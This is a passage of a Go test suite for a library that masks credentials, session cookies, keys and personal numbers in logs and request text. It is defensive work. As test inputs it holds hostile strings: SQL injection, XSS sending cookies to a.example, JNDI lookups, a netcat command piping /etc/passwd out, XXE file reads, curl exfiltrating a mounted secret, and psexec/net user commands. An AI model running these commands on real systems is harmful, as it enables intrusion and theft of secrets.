package sensitive

import (
	"strings"
	"testing"
)

func TestMaskOfNamed(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"form of Rails", "user[email]=x&user[password]=Summer2026!&a=1", "user[email]=x&user[password]=****&a=1"},
		{"the same in a URL", "user%5Bpassword%5D=Summer2026%21&a=1", "user%5Bpassword%5D=****&a=1"},
		{"list of PHP", "passwords[]=a1&passwords[3]=b2", "passwords[]=****&passwords[3]=****"},
		{"part of a multipart body", "--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nSum\r\nmer\r\n--b--\r\n", "--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n****\r\n--b--\r\n"},
		{"part that is cut", "--b\r\nContent-Disposition: form-data; name=\"user[pin]\"\r\n\r\n49", "--b\r\nContent-Disposition: form-data; name=\"user[pin]\"\r\n\r\n****"},
		{"element", "<r><password>a &amp; b</password><q>1</q></r>", "<r><password>****</password><q>1</q></r>"},
		{"element with a prefix and attributes", "<w:Password Type='x > y'> a </w:Password><q>1</q>", "<w:Password Type='x > y'> **** </w:Password><q>1</q>"},
		{"element with elements", "<password><v a='1'/><v>x</v></password><q>1</q>", "<password>****</password><q>1</q>"},
		{"element that is cut", "<password>Summ", "<password>****"},
		{"CDATA", "<pin><![CDATA[<49>]]></pin>", "<pin><![CDATA[****]]></pin>"},
		{"attribute", `<user password="a b" id="7"/>`, `<user password="****" id="7"/>`},
		{"pair of attributes", `<add key="password" value="a b"/><add key="q" value="1"/>`, `<add key="password" value="****"/><add key="q" value="1"/>`},
		{"pair of JSON", `[{"name":"Authorization","value":"Bearer abc"},{"name":"q","value":"1"}]`, `[{"name":"Authorization","value":"Bearer ****"},{"name":"q","value":"1"}]`},
		{"pair of elements", "<property><name>db.password</name>\n <value>a b</value></property><q>1</q>", "<property><name>db.password</name>\n <value>****</value></property><q>1</q>"},
		{"member of XML-RPC", "<member><name>pin</name><value><string>49</string></value></member><q/>", "<member><name>pin</name><value><string>****</string></value></member><q/>"},
		{"list of properties", "<key>Password</key><string>a b</string><key>q</key>", "<key>Password</key><string>****</string><key>q</key>"},
		{"JSON Patch", `[{"op":"replace","path":"/user/password","value":"a b"},{"path":"/q","value":"1"}]`, `[{"op":"replace","path":"/user/password","value":"****"},{"path":"/q","value":"1"}]`},
		{"random word", "auth=k7Qe2mZx91LpWv4T&key=user-name&api=1", "auth=k7Qe********&key=user-name&api=1"},
		{"key that looks like the name of a cookie", "/?key=a8f5f167f44f4964e6c998dee827110c&api=1", "/?key=a8f5********&api=1"},
		{"the same in JSON", `{"key":"a8f5f167f44f4964e6c998dee827110c","q":1}`, `{"key":"a8f5********","q":1}`},
		{"the same with more behind it", "/?key=a8f5f167f44f4964e6c998dee827110c=4716258050958603", "/?key=a8f5********"},
		{"the same in elements", "<r><key>a8f5f167f44f4964e6c998dee827110c</key><owner>ann</owner></r><key>a8f5f167f44f4964e6c998dee827110c</key>", "<r><key>a8f5********</key><owner>ann</owner></r><key>a8f5********</key>"},
		{"the same beside what may be its other half", "/?key=a8f5f167f44f4964e6c998dee827110c&v=3", "/?key=a8f5********&v=3"},
		{"name of Joomla's cookie behind a key", `{"value":"k7Qe2mZx91LpWv4T","key":"a8f5f167f44f4964e6c998dee827110c"},{"key":"a8f5f167f44f4964e6c998dee827110c","value":"k7Qe2mZx91LpWv4T"}`,
			`{"value":"k7Qe********","key":"a8f5********"},{"key":"a8f5********","value":"k7Qe********"}`},
		{"name of a cookie behind a key", `[{"key":"SESS0a1b2c3d4e5f60718293a4b5c6d7e8f9","value":"k7Qe2mZx91LpWv4T"}]`, `[{"key":"SESS0a1b2c3d4e5f60718293a4b5c6d7e8f9","value":"k7Qe********"}]`},
		{"number of a person in a line", "SSN: 536221236 and more\nUser SSN: 536 22 1237 ok\nssn 536-22-1238", "SSN: ****\nUser SSN: ****\nssn *******1238"},
		{"long PIN", "card_pin=123456789012&cvv=123456789012&otp=123456789012", "card_pin=****&cvv=****&otp=****"},
		{"password in another language", "passwort=Sommernacht26!&clave=primavera-2026", "passwort=****&clave=****"},
		{"string of JSON", `{"password":"a\"b,}","q":1}`, `{"password":"****","q":1}`},
		{"number of JSON", `{"pin":4916,"q":1}`, `{"pin":****,"q":1}`},
		{"list of JSON", `{"password":["a","b]"],"q":1}`, `{"password":[****],"q":1}`},
		{"object of JSON", `{"credentials":{"user":"a","x":{"y":"z"}},"q":1}`, `{"credentials":{****},"q":1}`},
		{"JSON in JSON", `{"a":"{\"password\":\"x\\\"y\",\"q\":1}"}`, `{"a":"{\"password\":\"****\",\"q\":1}"}`},
		{"JSON that is cut", `{"password":"Summ`, `{"password":"****`},
		{"session's cookie", "Cookie: a=b; PHPSESSID=rq8kd0f7m1v3; c=d\r\nX: y", "Cookie: a=b; PHPSESSID=rq8k********; c=d\r\nX: y"},
		{"session in a path", "/a;jsessionid=0A1B2C3D4E5F?q=1", "/a;jsessionid=0A1B********?q=1"},
		{"header", "X-Api-Key: two words\r\nX: y", "X-Api-Key: ****\r\nX: y"},
		{"Digest", "Authorization: Digest username=\"ann\", response=\"0f\"\r\nX: y", "Authorization: Digest ****\r\nX: y"},
		{"header within a line", `curl -H 'X-Api-Key: abc' -H "Authorization: Basic YTpi" /q`, `curl -H 'X-Api-Key: ****' -H "Authorization: Basic ****" /q`},
		{"hash of PHP", `'password' => 'a b', 'q' => 1`, `'password' => '****', 'q' => 1`},
		{"constant of PHP", `define('DB_NAME', 'shop'); define('DB_PASSWORD', 'a b');`, `define('DB_NAME', 'shop'); define('DB_PASSWORD', '****');`},
		{"the same as WordPress has it", "define( 'DB_NAME', 'shop' );\ndefine( 'DB_PASSWORD', 'a b' );\n", "define( 'DB_NAME', 'shop' );\ndefine( 'DB_PASSWORD', '****' );\n"},
		{"the same with other quotes and tabs", "define(\t\"DB_PASSWORD\"\t,\t'a\"b'\t);define( 'DB_PASSWORD' , \"a'b\" );", "define(\t\"DB_PASSWORD\"\t,\t'****'\t);define( 'DB_PASSWORD' , \"****\" );"},
		{"the same in lines", "define(\r\n\t'DB_PASSWORD',\r\n\t'a b'\r\n);", "define(\r\n\t'DB_PASSWORD',\r\n\t'****'\r\n);"},
		{"the same in a form", "c=define%28+%27DB_PASSWORD%27%2C+%27a+b%27+%29%3B&q=1", "c=define%28+%27DB_PASSWORD%27%2C+%27****%27+%29%3B&q=1"},
		{"list of headers with spaces", `[ [ "authorization", "Bearer abcdef" ], [ "accept", "text/html" ] ]`, `[ [ "authorization", "Bearer ****" ], [ "accept", "text/html" ] ]`},
		{"cookie with a host and a port", "Cookie: OAMAuthnCookie_shop.example:7777=kJ3vXq0ZsL9bWm2TfR7y; c=d\r\n", "Cookie: OAMAuthnCookie_shop.example:7777********; c=d\r\n"},
		{"salts of WordPress", "define( 'LOGGED_IN_KEY', 'a,b)&<c' );\ndefine( \"NONCE_SALT\", \"a b\" );\ndefine('SECURE_AUTH_KEY','a b');define('WP_DEBUG', 'yes');", "define( 'LOGGED_IN_KEY', '****' );\ndefine( \"NONCE_SALT\", \"****\" );\ndefine('SECURE_AUTH_KEY','****');define('WP_DEBUG', 'yes');"},
		{"siblings of them", "define('AUTH_KEY', 'a b');define('LOGGED_IN_SALT', 'a b');define('AUTH_SALT', 'a b');define('NONCE_KEY', 'a b');define('SECURE_AUTH_SALT', 'a b')", "define('AUTH_KEY', '****');define('LOGGED_IN_SALT', '****');define('AUTH_SALT', '****');define('NONCE_KEY', '****');define('SECURE_AUTH_SALT', '****')"},
		{"salt of Drupal", "$settings['hash_salt'] = 'a b';", "$settings['hash_salt'] = '****';"},
		{"arguments of a call", `set("password","a b").put("q", "1")`, `set("password","****").put("q", "1")`},
		{"connection", "Server=db;Password=a;b!;Database=x", "Server=db;Password=****;Database=x"},
		{"user information", "https://ann:p%40ss%3A@h.example/?q=1", "https://ann:****@h.example/?q=1"},
		{"argument in HTML", `<a href="/?password=a&amp;q=1">`, `<a href="/?password=****&amp;q=1">`},
		{"argument of an argument", "/?next=%2Flogin%3Fpassword%3Da%2526b%26q%3D1&z=1", "/?next=%2Flogin%3Fpassword%3D****%26q%3D1&z=1"},
		{"token in a path", "/token/Zx9yW8vU7tS6rQ5pO4nM/q", "/token/Zx9y********/q"},
		{"token that begins in another script", "token=卡号k7Qe2mZx91LpWv4T&api_key=ключk7Qe2mZx91LpWv4T", "token=****&api_key=кл********"},
		{"code of OAuth", "/cb?code=short7code&state=1", "/cb?code=****&state=1"},
		{"base64", "d=eyJwYXNzd29yZCI6Imh1bnRlcjIifQ==&q=1", "d=****&q=1"},
		{"base64 in a path", "/data/x/eyJwYXNzd29yZCI6Imh1bnRlcjIifQ?q=1", "/data/x/****?q=1"},
		{"address", "u=ann%2Blee%40mail.example", "u=a****%40mail.example"},
		{"field of PHP's request", `$_POST["password"]="a b";q=1`, `$_POST["password"]="****";q=1`},
		{"dump of PHP", "[\"pwd\"]=>\n  string(3) \"a b\"\n", "[\"pwd\"]=>\n  string(3) \"****\"\n"},
		{"serialized by PHP", `a:2:{s:4:"user";s:3:"ann";s:8:"password";s:3:"a b";}`, `a:2:{s:4:"user";s:3:"ann";s:8:"password";s:3:"****";}`},
		{"pair the other way round", `[{"value":"a b","name":"password"},{"value":"1","name":"q"}]`, `[{"value":"****","name":"password"},{"value":"1","name":"q"}]`},
		{"hidden field the other way round", `<input value="k7Qe2mZx91LpWv4T" type="hidden" name="csrf_token"><input value="1" name="q">`, `<input value="k7Qe********" type="hidden" name="csrf_token"><input value="1" name="q">`},
		{"labelled field", `{"label":"Password","value":"a b"}`, `{"label":"Password","value":"****"}`},
		{"list of headers", `[["authorization","Bearer abcdef"],["accept","text/html"]]`, `[["authorization","Bearer ****"],["accept","text/html"]]`},
		{"list of arguments", `["server","--password","a b","--port","80"]`, `["server","--password","****","--port","80"]`},
		{"manifest of a Secret", `{"kind":"Secret","data":{"a.json":"eHl6","user":"YW5u"},"type":"Opaque"}`, `{"kind":"Secret","data":{****},"type":"Opaque"}`},
		{"the same in YAML", "kind: Secret\ndata:\n  a: eHl6\n  b: YW5u\ntype: Opaque\n", "kind: Secret\ndata:\n  ****\ntype: Opaque\n"},
		{"JSON Web Key", `{"kty":"oct","k":"k7Qe2mZx91LpWv4T","alg":"HS256"}`, `{"kty":"oct","k":"****","alg":"HS256"}`},
		{"cookie of Tornado", `a=b; user="2|1:0|10:1764317700|4:user|8:YW5uYW5u|0a1b2c"; c=d`, `a=b; user="2|1:********"; c=d`},
		{"cookie of Express", "a=s%3Aabcdef0123.Zx9yW8vU7tS6rQ5pO4nM3lK2jI1hG0fE9dC8bA7zY6x; c=d", "a=s%3Aab********; c=d"},
		{"cookies named by a hash", "SESS0a1b2c3d4e5f60718293a4b5c6d7e8f9=k7Qe2mZx91LpWv4T; 0a1b2c3d4e5f60718293a4b5c6d7e8f9=k7Qe2mZx91LpWv4T", "SESS0a1b2c3d4e5f60718293a4b5c6d7e8f9=k7Qe********; 0a1b2c3d4e5f60718293a4b5c6d7e8f9=k7Qe********"},
		{"header that goes on in the next line", "Authorization: Bearer\r\n abcdef\r\nX: y", "Authorization: ****\r\nX: y"},
		{"scheme of a cloud", "Authorization: AWS4-HMAC-SHA256 Credential=a/b, Signature=0f0f\r\nX: y", "Authorization: AWS4-HMAC-SHA256 ****\r\nX: y"},
		{"user and password of WS-Security", "<w:UsernameToken><w:Username>ann</w:Username><w:Password>a b</w:Password></w:UsernameToken>", "<w:UsernameToken><w:Username>ann</w:Username><w:Password>****</w:Password></w:UsernameToken>"},
		{"row of a table", "<tr><td class=\"e\">MYSQL_PASSWORD </td><td class=\"v\">a b</td></tr><tr><td>q</td><td>1</td></tr>", "<tr><td class=\"e\">MYSQL_PASSWORD </td><td class=\"v\">****</td></tr><tr><td>q</td><td>1</td></tr>"},
		{"header of a part in two lines", "--b\r\nContent-Disposition: form-data;\r\n name=\"password\"\r\n\r\na b\r\n--b--\r\n", "--b\r\nContent-Disposition: form-data;\r\n name=\"password\"\r\n\r\n****\r\n--b--\r\n"},
		{"extended name of a part", "--b\r\nContent-Disposition: form-data; name*=UTF-8''password\r\n\r\na b\r\n--b--\r\n", "--b\r\nContent-Disposition: form-data; name*=UTF-8''password\r\n\r\n****\r\n--b--\r\n"},
		{"name with a null byte", "a=1&password%00=a1b2&q=1", "a=1&password%00=****&q=1"},
		{"URL of a database that is not escaped", "mysql://ann:a#b?c1@db/x?q=1", "mysql://ann:****@db/x?q=1"},
		{"Go's for MySQL", "ann:a!b1@tcp(10.0.0.1:3306)/x", "ann:****@tcp(10.0.0.1:3306)/x"},
		{"Oracle's", "jdbc:oracle:thin:ann/a!b1@db.example:1521:x", "jdbc:oracle:thin:ann/****@db.example:1521:x"},
		{".pgpass", "db.example:5432:x:ann:a b\n*:*:x:y", "db.example:5432:x:ann:****\n*:*:x:y"},
		{"account in lower case", "a=gb82west12345698765432&q=1", "a=gb82**************5432&q=1"},
		{"bot in a URL", "/bot1234567890:AAwTuL53gaGEVro4tyUxcwGmifbMWz7jAhW/sendMessage", "/bot1234********/sendMessage"},
		{"hash of Apache", "ann:$apr1$jvC43o6S$Qz5sHVWHLG4fXjpp4Uvtz.\n", "ann:****\n"},
		{"field of a password", `{"type":"password","value":"a b","temporary":false}`, `{"type":"password","value":"****","temporary":false}`},
		{"colon of East Asia", "密码：a1b2c3\n用户：ann", "密码：****\n用户：ann"},
		{"equals sign of East Asia", "password＝a1b2c3 q＝1", "password＝**** q＝1"},
		{"card in groups with points", "card 4111.1111.1111.1111.", "card 4111.11********1111."},
		{"words of a wallet", `{"mnemonic":"a b c","q":1}`, `{"mnemonic":"****","q":1}`},
		{"pair of user and password", `{"creds":"ann:a b","q":1}`, `{"creds":"****","q":1}`},
		{"hash of Windows", "User : ann\n NTLM : 5db687ee9f837e9bdbd90aaa67dae288\n", "User : ann\n NTLM : 5db6********\n"},
		{"tickets of Kerberos", "$krb5tgs$23$*svc$CORP$x/y*$c5b551d225ea0e29a5543eb0d4c18646$15ad03138ff0 x", "**** x"},
		{"vault of Ansible", "a: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  61393839643065326665343234323763\n  3431\nb: 1", "a: !vault |\n  ****\nb: 1"},
		{"password over XML-RPC", "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>ann</string></value></param><param><value>a b</value></param></params></methodCall>",
			"<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>ann</string></value></param><param><value>****</value></param></params></methodCall>"},
		{"attack on a session", "sid=0A1B2C3D4E5F' OR 1=1--&q=1", "sid=0A1B********' OR 1=1--&q=1"},
	} {
		got := Mask(c.text)
		if got != c.want {
			t.Errorf("%s:\n%q is masked as\n%q, want\n%q", c.name, c.text, got, c.want)
		}
		if again := Mask(got); again != got {
			t.Errorf("%s: %q is masked as %q", c.name, got, again)
		}
	}
}

// What is no secret stays, above all attacks.
func TestReadable(t *testing.T) {
	for _, text := range []string{
		"/?f=../../etc/passwd", "/?q=1'+UNION+SELECT+password,+token+FROM+users--", "/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
		"<script>document.location='http://a.example/?c='+document.cookie</script>", "${jndi:ldap://a.example/x}", "() { :; }; /bin/cat /etc/shadow",
		"; cat /etc/passwd | nc 10.0.0.1 4444", "{{7*7}}", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
		"session=../../../../tmp/x", "token=${jndi:ldap://a.example/x}", "sid=' OR '1'='1", "password=${jndi:ldap://a.example/x}",
		"code=ABC-123&q=1", "code=200 OK", `{"code":404,"message":"no such page"}`, `{"code":"SKU-4711-XL"}`, "promo_code=SUMMER", "zip_code=10115",
		"sku=AB12-CD34-EF56-GH78", "order=2026-000123", "inside=1&outside=2", "compass=north&bypass=yes&passenger=ann", "max_tokens=100",
		"auth=basic&key=title&sso=true&identity=guest&reset=all&verify=false&refresh=30&hash=abc", "sessions=12&session_count=3", "<name>Ann</name><value>password</value>",
		"Idempotency-Key: 5a1f9b3c7d2e4f60", `[{"op":"replace","path":"/user/name","value":"Ann"}]`,
		"page_token=CAUQAA&nextPageToken=CAUQAB", "keyboard=us&monkey=1", "author=ann&authenticated=true&authority=h.example", `{"author":"ann","authentication":"basic","authenticated":true,"authenticationMethod":"client-certificate-of-user"}`,
		"salt=sea&nonce_length=8&cache_key_salt=shop.example", "authentication: required\nauthentication: mutual-tls\n", "pinned=true&spin=1", "tests: pass=12 fail=0", `["email","password","phone"]`, `[ "email", "password", "phone" ]`, `f('password', x)`, `f( 'password', $x )`, `array( 'user', 'password', 'phone' )`, "(HTTP=0, SESS=5, COMBINED_SCORE=15)",
		"Path Traversal Attack (/../) or (/.../)", "GET /a/b/c.html HTTP/1.1\r\nHost: h\r\nUser-Agent: sqlmap/1.8\r\nAccept: */*\r\n\r\n",
		"/assets/application-0123456789abcdef.js", "/products/shoes/running-shoes-for-men/view", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA",
		"TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQ=", // it says: Lorem ipsum dolor sit amet
		`{"id":10042,"name":"running shoes","price":"89.90","updated":"2026-03-02T09:00:00Z"}`, "<name>Ann</name><value>7</value>",
		"<methodCall><methodName>shop.find</methodName><params><param><value>ann</value></param><param><value>bob</value></param></params></methodCall>",
		`{"type":"string","value":"ann"}`, "1.2.3.4 4111.1111.1111", "ntlm=true&NTLM: enabled", "v1.0-beta sk-theme re_run sl.example shippo_test", "time：12",
		`<input type="password" name="password" id="password">`,
		"primary_key=k7Qe2mZx91LpWv4T&X-Cache-Key=k7Qe2mZx91LpWv4T&object_key=k7Qe2mZx91LpWv4T", "session_count=k7Qe2mZx91LpWv4T&session_name=k7Qe2mZx91LpWv4T", "possession=k7Qe2mZx91LpWv4T",
		"curl http://a.example/?token=$(cat /run/secrets/token)", "mutation($user: String!, $password: String!) { login(user: $user, password: $password) { id } }",
		`if ($_POST["password"] == $hash) { f(); }`, "def f(a, password=None, token=None):", `{"required":["password","email"]}`, `{"kind":"ConfigMap","data":{"mode":"production"}}`, `{"d":"a","k":"b"}`,
		"<tr><th>Password</th><th>Role</th></tr>", "- password\n- token\n", "12:30:05:5432:7", "a.example:5432/x", "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1\r\n--b--",
	} {
		if got := Mask(text); got != text {
			t.Errorf("%q is masked as %q", text, got)
		}
	}
}

// What of a name decides.
func TestNames(t *testing.T) {
	for _, c := range []struct {
		names string
		is    bool
	}{
		{"password PassWord user_password userPassword password2 new-password ARGS:user[password][0] ARGS:json.a.0.password.1 REQUEST_HEADERS:X-Vault-Token " +
			"XSRF-TOKEN connect.sid ASP.NET_SessionId REQUEST_COOKIES:wordpress_logged_in_0a1b JSESSIONIDSSO " +
			"_oauth2_proxy KEYCLOAK_IDENTITY ASPSESSIONIDQQAB ESTSAUTHPERSISTENT X-Auth user_pw pw Пароль şifre mfa_code wpa_psk ARGS:.AspNetCore.Cookies user_pin userPin pin __Host-sid", true},
		{"passenger compass bypass ARGS_NAMES:password inside pinned userpinned tokens page_token nextPageToken keyboard code REQUEST_HEADERS:Cookie " +
			"X-Amz-Credential REQUEST_URI a spawn enclave key auth sso identity sessions", false},
	} {
		for _, name := range strings.Fields(c.names) {
			if IsCredential(name) != c.is {
				t.Errorf("%s is one of a credential: %v", name, !c.is)
			}
		}
	}
}

// Sessions of products, by the name of their cookie.
func TestMaskOfCookies(t *testing.T) {
	const id = "kJ3vXq0ZsL9bWm2TfR7yHc4NpU1eAg8DoI5xVtB6w_E"
	for _, c := range []struct{ names, value, want string }{
		{"be_typo_user fe_typo_user Typo3InstallTool MYSAPSSO2 SAP_SESSIONID_PRD_100 sap-contextid OAMAuthnCookie OAMAuthnCookie_shop.example OAM_ID ORA_WWV_APP_100 " +
			"SMIDENTITY _vouch VouchCookie VouchCookie_1of2 lemonldap MOD_AUTH_CAS mellon-cookie auth_tkt authentik_proxy_0a1b _pomerium KEYCLOAK_IDENTITY_LEGACY " +
			"idsrv idsrv.session MSISAuth MSISAuth1 cadata EdgeAccessCookie .ASPXFORMSAUTH .AspNet.Cookies .DOTNETNUKE UMB_UCONTEXT NSC_TMAS CtxsAuthId TWFID",
			id, "kJ3v********"},
		{"wp_woocommerce_session_0a1b wfwaf-authcookie-0a1b wp-postpass_0a1b PrestaShop-0a1b mybbuser SMFCookie10 ips4_IPSSessionFront MoodleSession MoodleSessionlms BbRouter " +
			"MANTIS_STRING_COOKIE Bugzilla_logincookie GerritAccount i_like_gitea gitea_incredible known_sign_in autologin grafana_remember flarum_remember " +
			"ACEGI_SECURITY_HASHED_REMEMBER_ME_COOKIE splunkd_8089 jupyterhub-user-ann X-Qlik-Session-http glide_user glide_session_store unifises ISPCSESS CFAUTHORIZATION_app " +
			"OTDSTicket sitecore_userticket", id, "kJ3v********"},
		{"wordpress_0a1b2c3d4e5f60718293a4b5c6d7e8f9", "ann%7C1764317700%7C" + id, "ann%7C********"},
		{"theme lang typo_user_lang sap-usercontext wordpress_test_cookie wp-settings-1 woocommerce_cart_hash prestashop splunkd_locale jupyterhub_theme remember vouch autologin", "dark-blue", "dark-blue"},
	} {
		for _, name := range strings.Fields(c.names) {
			text := "Cookie: a=b; " + name + "=" + c.value + "; c=d\r\nX: y"
			if got, want := Mask(text), "Cookie: a=b; "+name+"="+c.want+"; c=d\r\nX: y"; got != want {
				t.Errorf("%q is masked as\n%q, want\n%q", text, got, want)
			}
			if got := MaskNamed("REQUEST_COOKIES:"+name, c.value); got != c.want {
				t.Errorf("%s %q is masked as %q, want %q", name, c.value, got, c.want)
			}
		}
	}
}

// Keys of services among themselves are words as often as they are random.
func TestMaskOfHeaders(t *testing.T) {
	for _, c := range []struct{ names, value, want string }{
		{"X-Internal-Auth X-Service-Auth X-Origin-Auth X-Gateway-Auth X-Edge-Auth X-Proxy-Auth X-Cron-Auth X-Webhook-Auth X-Admin-Auth X-Backend-Auth Authentication " +
			"Fastly-Key X-Cron-Key X-Origin-Key X-Internal-Key X-Service-Key X-Gateway-Key X-Admin-Key X-Webhook-Key x-internal-auth authentication", "internal-service-key", "inte********"},
		{"Authentication", "Bearer internal-key", "Bearer inte********"},
		{"Authentication", "Basic YTpi", "Basic ****"},
		{"X-Cron-Key", "a b", "****"},
		{"Authentication SMTP-Authentication Author X-Auth-Type X-Authenticated Authenticated X-Auth-Method Auth-Provider X-Cache-Key X-Sort-Key X-Routing-Key", "public-key", "public-key"},
		{"Authentication Author Authenticated X-Authenticated X-Auth-Type X-Auth-Required", "basic", "basic"},
		{"Authentication Author X-Auth-Type", "two factors", "two factors"},
		{"X-Internal-Auth Authenticated", "true", "true"},
		{"Author X-Author Co-Author", "ann-marie-smith-jones", "ann-marie-smith-jones"},
	} {
		for _, name := range strings.Fields(c.names) {
			text := "Accept: */*\r\n" + name + ": " + c.value + "\r\nX: y"
			if got, want := Mask(text), "Accept: */*\r\n"+name+": "+c.want+"\r\nX: y"; !strings.EqualFold(got, want) {
				t.Errorf("%q is masked as\n%q, want\n%q", text, got, want)
			}
			got := MaskNamed("REQUEST_HEADERS:"+name, c.value)
			if got != c.want || MaskNamed("REQUEST_HEADERS:"+name, got) != got {
				t.Errorf("%s %q is masked as %q, want %q", name, c.value, got, c.want)
			}
		}
	}
}

// A view of a value has the name of the value, and says how it has read it.
func TestNamesOfViews(t *testing.T) {
	for name, is := range map[string]bool{"ARGS:user[password] (base64)": true, "ARGS:q (base64)": false} {
		if IsCredential(name) != is {
			t.Errorf("%s is one of a credential: %v", name, !is)
		}
	}
}

func TestUndo(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"nothing", "nothing"}, {"100%", "100%"}, {"%zz &x; \\q", "%zz &x; \\q"}, {"a%3Db", "a=b"}, {"%253d", "="}, {"%2525253D", "="}, {"%%33D", "="},
		{"&amp;quot;", `"`}, {"&#x26;#61;", "="}, {"%26%2361%3B", "="}, {`\u003d\"\\n`, "=\"\n"}, {`%5Cu003D`, "="}, {`a\\"b`, `a\"b`}, {`\x22`, `"`},
		{"%u00e4\\u00e4&#228;%C3%A4", "ääää"}, {`\ud83d\ude00`, "😀"}, {"%25", "%"}, {"&amp", "&amp"}, {"&#xffffffffff;", "&#xffffffffff;"},
	} {
		p := undo(c.text)
		if p.text != c.want {
			t.Errorf("%q is read as %q, want %q", c.text, p.text, c.want)
		}
		if p.start(0) != 0 || p.start(len(p.text)) != len(c.text) {
			t.Errorf("%q: it is from %d to %d", c.text, p.start(0), p.start(len(p.text)))
		}
	}
	p := undo("a%3Db&#61;c")
	for i, want := range []int{0, 1, 4, 5, 10, 11} {
		if got := p.start(i); got != want {
			t.Errorf("byte %d is at %d, want %d", i, got, want)
		}
	}
}

// What is known is found in any form that rules give it, also in part.
func TestKnown(t *testing.T) {
	m := NewMasker(`{"password":"Sum mer'20 26!and more"}`, "-----BEGIN PRIVATE "+"KEY-----\n"+strings.Repeat("MIIEvQIBADANBgkq\n", 9)+"-----END PRIVATE KEY-----")
	for _, c := range []struct{ text, want string }{
		{"x sum mer'20 26!and more y", "x **** y"},
		{"summer2026!andmore", "****"},
		{"q=Sum+mer%2720+26!and+more&b=1", "q=****&b=1"},
		{"Sum mer'20 26!an", "****"},
		{"Sum mer'20", "Sum mer'20"},
		{"miievqibadanbgkqmiievqibadanbgkq", "****"},
	} {
		if got := m.Mask(c.text); got != c.want {
			t.Errorf("%q is masked as %q, want %q", c.text, got, c.want)
		}
	}
	for _, c := range []struct{ text, want string }{
		{"'20 26", "****"}, {"ER20", "****"}, {"../", "../"}, {"or 1=1", "or 1=1"}, {"", ""}, {`{"q":"Sum m`, `{"q":"****`}, {`{"q":"Su`, `{"q":"Su`},
		{"6!an d more and then", "****"},
	} {
		if got := m.MaskPiece(c.text); got != c.want {
			t.Errorf("the piece %q is masked as %q, want %q", c.text, got, c.want)
		}
	}
}

// Each text of a record is looked at once, however many rules matched on it.
func TestMaskerLooksOnce(t *testing.T) {
	uri, head, body := "/?password=hunter22", "Host: h\r\n\r\n", `{"q":"hunter22"}`
	m := NewMasker(uri, head, body)
	for range 100 {
		for _, text := range []string{uri, head, body} {
			m.Mask(text)
			m.MaskNamed("REQUEST_BODY", text)
		}
		m.MaskNamed("ARGS:q", "hunter22")
		m.MaskNamed("ARGS:password", "hunter22")
	}
	if m.looks != 4 {
		t.Errorf("it has looked %d times at 4 texts", m.looks)
	}
}

// Arguments of commands, and what stands behind words of SQL and other protocols.
func TestMaskOfCommands(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"mysql -u root -pa!b -e 'show tables'", "mysql -u root -p**** -e 'show tables'"},
		{"/usr/bin/mysqldump -p'a b' x", "/usr/bin/mysqldump -p'****' x"},
		{"mysql --password a!b x; id", "mysql --password **** x; id"},
		{`curl -u ann:a!b http://h.example/`, `curl -u ann:**** http://h.example/`},
		{`curl --user "ann:a b" http://h.example/`, `curl --user "ann:****" http://h.example/`},
		{"curl+-sku+ann:a!b+http://h.example/", "curl+-sku+ann:****+http://h.example/"},
		{"curl${IFS}-u${IFS}ann:a!b${IFS}h.example", "curl${IFS}-u${IFS}ann:****${IFS}h.example"},
		{`{"cmd":"sshpass -p a!b ssh h","q":1}`, `{"cmd":"sshpass -p **** ssh h","q":1}`},
		{`{"cmd":"mysql -pa!b","q":1}`, `{"cmd":"mysql -p****","q":1}`},
		{"q=mysql%20-pa%21b%20x&z=1", "q=mysql%20-p****%20x&z=1"},
		{"PsExec.exe \\\\h -u ann -p a!b cmd", "PsExec.exe \\\\h -u ann -p **** cmd"},
		{"psexec.py corp/ann:a!b@10.0.0.1 id", "psexec.py corp/ann:****@10.0.0.1 id"},
		{"docker login -u ann -p a!b r.example", "docker login -u ann -p **** r.example"},
		{"smbclient -U ann%a!b //h/s", "smbclient -U ann%**** //h/s"},
		{"xfreerdp /u:ann /p:a!b /v:h", "xfreerdp /u:ann /p:**** /v:h"},
		{"sqlplus ann/a!b@db", "sqlplus ann/****@db"},
		{"net user ann a!b /add", "net user ann **** /add"},
		{`net use z: \\h\s /user:ann a!b`, `net use z: \\h\s /user:ann ****`},
		{`net use z: \\h\s a!b /user:ann`, `net use z: \\h\s **** /user:ann`},
		{"htpasswd -b f ann a!b", "htpasswd -b f ann ****"},
		{"htpasswd -nb ann a!b", "htpasswd -nb ann ****"},
		{"echo a!b | sudo -S id", "echo **** | sudo -S id"},
		{"echo ann:a!b|chpasswd", "echo ann:****|chpasswd"},
		{"aws configure set aws_secret_access_key a!b", "aws configure set aws_secret_access_key ****"},
		{"npm config set //r.example/:_authToken a!b", "npm config set //r.example/:_authToken ****"},
		{"machine r.example\n login ann\n password a!b\n", "machine r.example\n login ann\n password ****\n"},
		{"rabbitmqctl add_user ann a!b", "rabbitmqctl add_user ann ****"},
		{"ConvertTo-SecureString 'a b' -AsPlainText", "ConvertTo-SecureString '****' -AsPlainText"},
		{"keytool -list -storepass a!b -v", "keytool -list -storepass **** -v"},
		{"port 6379\nrequirepass a!b\n", "port 6379\nrequirepass ****\n"},
		{"gopher://127.0.0.1:6379/_AUTH a!b\r\nINFO", "gopher://127.0.0.1:6379/_AUTH ****\r\nINFO"},
		{"*2\r\n$4\r\nAUTH\r\n$3\r\na!b\r\n", "*2\r\n$4\r\nAUTH\r\n$3\r\n****\r\n"},
		{"USER ann\r\nPASS a b\r\nLIST", "USER ann\r\nPASS ****\r\nLIST"},
		{"CREATE USER ann IDENTIFIED WITH sha256_password BY 'a b'", "CREATE USER ann IDENTIFIED WITH sha256_password BY '****'"},
		{`GRANT ALL ON *.* TO ann IDENTIFIED BY "a b";`, `GRANT ALL ON *.* TO ann IDENTIFIED BY "****";`},
